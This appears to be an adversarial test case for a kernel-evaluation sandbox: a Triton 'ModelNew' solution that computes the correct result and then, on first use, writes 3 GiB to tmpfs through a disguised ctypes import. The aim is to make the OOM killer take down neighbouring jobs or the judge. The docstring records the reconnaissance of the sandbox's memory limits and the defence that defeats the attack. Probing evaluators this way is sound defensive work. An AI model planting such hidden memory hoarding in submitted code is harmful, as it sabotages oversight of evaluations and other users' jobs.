# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=verdict_not_neighbours expect=runtime_error|crashed|forbidden|timeout device=cpu then=data/query_solutions/001_scaled_tanh_bias.py
"""Host memory taken where neither the candidate's limits nor the OOM killer look: the sandbox's /tmp is a
 tmpfs of the slot whose size is the kernel default, half the host's RAM (recon: statvfs 3085473 blocks of
 4 KiB = 11.8 GiB on a 24 GB host without swap), there is no memory cgroup around the slot (memory.limit_in_bytes
 unlimited, the cgroup view is the host's root), and RLIMIT_AS (24 GiB) does not count page-cache pages of
 files that are not mapped. The candidate does the work correctly, then writes 3 GiB of non-zero data into
 files in its work folder (512 MiB each, under RLIMIT_FSIZE; libc write through ctypes, a 64 MiB buffer) and
 keeps them until it is killed. Its own RSS stays ~0.5 GiB, so when two slots do this at full scale (2 x 11.8
 GiB > the host's RAM) the kernel's OOM killer picks the processes with the largest RSS: the concurrent
 neighbour, the judge, or anything else on the host, not the candidate (bounded here at 3 GiB so the test host
 survives; nothing stops 11.8 GiB). A sound evaluator charges tmpfs pages to the candidate (a memory cgroup per
 slot or candidate with memory.max, or a tmpfs mounted with size= a few hundred MiB): the writes fail with
 ENOSPC or the candidate alone is killed, `runtime_error` or `crashed`."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)
_libc.write.restype = _ct.c_ssize_t
_libc.write.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_size_t]

TOTAL, PER_FILE, CHUNK = 3 << 30, 512 << 20, 64 << 20


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


_done = []


def _hoard():
    buf = _ct.create_string_buffer(b"\xa5" * CHUNK, CHUNK)
    written = 0
    for i in range(TOTAL // PER_FILE):
        fd = _libc.open(b"hoard-%d.bin" % i, 0o101 | 0o1000, 0o600)  # O_WRONLY | O_CREAT | O_TRUNC
        if fd < 0:
            raise OSError(_ct.get_errno(), "open")
        for _ in range(PER_FILE // CHUNK):
            n = _libc.write(fd, buf, CHUNK)
            if n != CHUNK:
                raise OSError(_ct.get_errno(), "write after %d bytes" % written)
            written += n
        _libc.close(fd)
    return written


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        out = stb(x, self.bias, self.scale)
        if not _done:
            _done.append(_hoard())
        return out
